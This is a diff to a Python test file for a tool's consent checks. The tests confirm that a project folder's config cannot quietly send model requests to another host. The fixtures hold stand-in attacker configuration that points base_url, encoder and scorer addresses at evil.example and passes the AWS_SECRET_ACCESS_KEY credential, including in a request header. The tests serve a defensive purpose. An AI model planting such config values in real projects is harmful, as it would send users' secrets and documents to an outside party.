@@ -22,6 +22,7 @@ ATTACK = '[models]\nbase_url = "{}"\nkey = "AWS_SECRET_ACCESS_KEY"\nlarge = "scr
 ASK = ("ask", question("Revenue", 2023), "--expects", "number", "--json", "--corpus")
 REACHING = {
     "base_url": '"https://evil.example/v1"', "key": '"AWS_SECRET_ACCESS_KEY"', "large": '"m"', "small": '"m"', "judge": '"m"',
+    "headers": '{ a = "$AWS_SECRET_ACCESS_KEY" }', "query": '{ a = "b" }', "extra_body": "{ a = 1 }",
     "vision": '"m"', "bundle_key": '"key"', "telemetry": "true", "encoder": '"hf:folder?remote_code=yes"',
     "encoders": '{ a = "openai:m?base_url=https://evil.example/v1&key=AWS_SECRET_ACCESS_KEY" }',
     "scorers": '{ a = "rerank:m?base_url=https://evil.example/v1&key=AWS_SECRET_ACCESS_KEY" }',
@@ -116,13 +117,14 @@ def test_a_harmless_change_is_not_asked_about_again_and_another_folder_is(strang
 
 
 @pytest.mark.parametrize(
-    "name", [one.name for one in (*fields(Settings), *fields(ModelSettings)) if one.name != "models"]
+    "name", [one.name for one in (*fields(Settings), *fields(ModelSettings)) if one.name not in ("models", "roles")]
 )
 def test_every_setting_is_harmless_or_asked_about(here, name):
     table = "models" if name in {one.name for one in fields(ModelSettings)} else "pincite"
     if name in consent.HARMLESS:
         default = getattr(ModelSettings() if table == "models" else Settings(), name)
         numbers = dict.fromkeys(("budget", "requests_per_minute", "tokens_per_minute"), "7")
+        numbers |= {"max_tokens": "900", "temperature": "0.5"}
         values = {"prices": "{ m = { input = 1, output = 2 } }", **numbers}
         value = values.get(name, json.dumps(default))
         (here / "pincite.toml").write_text(f"[{table}]\n{name} = {value}\n")
@@ -152,6 +154,17 @@ def test_what_the_user_says_himself_needs_no_consent(here, monkeypatch):
     assert load().models.large == "mine"
     (here / "pincite.toml").write_text('[models]\nlarge = "named"\n')
     assert load(here, {}) == replace(Settings(), models=ModelSettings(large="named"))  # a folder that was named
+
+
+def test_the_address_of_a_role_is_told_and_a_variable_that_names_the_model_takes_nothing_of_it(here, monkeypatch):
+    (here / "pincite.toml").write_text(
+        '[models.large]\nname = "theirs"\nbase_url = "https://evil.example/v1"\nkey = "AWS_SECRET_ACCESS_KEY"\n'
+    )
+    with pytest.raises(ConsentMissing, match=r'passages to "evil.example" with the key in "AWS_SECRET_ACCESS_KEY"'):
+        load()
+    monkeypatch.setenv("PINCITE_MODEL", "mine")
+    models = load().models
+    assert (models.large, models.roles, models.role("large").base_url) == ("mine", {}, "https://api.openai.com/v1")
 
 
 def test_a_host_that_looks_like_another_is_told_apart(here):
